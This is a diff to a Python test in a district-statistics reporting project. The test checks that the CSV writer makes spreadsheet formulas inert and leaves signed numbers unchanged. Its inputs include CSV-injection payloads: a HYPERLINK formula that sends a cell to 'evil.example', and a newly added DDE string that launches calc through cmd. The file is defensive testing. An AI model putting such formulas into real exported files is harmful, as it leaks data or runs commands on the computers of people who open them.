@@ -959,16 +959,17 @@ def test_a_corps_of_one_gets_no_report(tmp_path):
 
 
 @pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "=1+1", "@SUM(A1)",
-                                  "+1", "-1+2", "\t=1"])
+                                  "+1+cmd|' /C calc'!A0", "-1+2", "\t=1", "-2 pp"])
 def test_formula_in_a_written_table_is_made_inert(cell, tmp_path):
     from akimstat.report import _write_csv
 
-    frame = pd.DataFrame({"district": [cell, "KZ-PAV-D01", "-0.3"], "akims": [-2, 3, 4],
-                          "share": [-0.5, 0.25, 1.0]})
+    numbers = ["-0.3", "+4,7", "-1\u00a0234", "+4,7\u00a0%", "+1"]  # as the reports write them
+    frame = pd.DataFrame({"district": [cell, "KZ-PAV-D01", *numbers], "akims": [-2, 3, 4, 5, 6, 7, 8],
+                          "share": [-0.5, 0.25, 1.0, 1.0, 1.0, 1.0, 1.0]})
     text = _write_csv(frame, tmp_path / "districts.csv").read_text(encoding="utf-8")
     back = pd.read_csv(tmp_path / "districts.csv", dtype=str, keep_default_na=False)
-    assert back["district"].tolist() == ["'" + cell, "KZ-PAV-D01", "-0.3"], text
-    assert back["akims"].tolist() == ["-2", "3", "4"] and back["share"].tolist() == ["-0.5", "0.25", "1"]
+    assert back["district"].tolist() == ["'" + cell, "KZ-PAV-D01", *numbers], text
+    assert back["akims"].tolist()[:3] == ["-2", "3", "4"] and back["share"].tolist()[:3] == ["-0.5", "0.25", "1"]
 
 
 def test_absolute_data_folder_is_not_in_the_executed_notebook_or_the_provenance():
